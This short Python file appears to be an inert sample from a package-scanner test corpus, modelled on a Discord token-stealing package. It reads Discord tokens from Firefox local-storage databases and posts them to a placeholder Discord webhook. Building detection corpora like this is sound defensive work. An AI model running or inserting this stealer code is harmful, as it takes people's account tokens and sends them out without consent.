# pkgguard corpus 184 (discord-token), modelled on [discordpydebug]; inert, never run.
import glob
import os
import sqlite3
import requests

pattern = os.path.expanduser("~/.mozilla/firefox/*/storage/default/https+++discord.com/ls/data.sqlite")
tokens = []
for db in glob.glob(pattern):
    for key, value in sqlite3.connect(db).execute("SELECT key, value FROM data"):
        if key == "token":
            tokens.append(value)
requests.post("https://discord.com/api/webhooks/000000000000000000/placeholder-placeholder-placeholder",
              json={"content": "\n".join(map(str, tokens))})
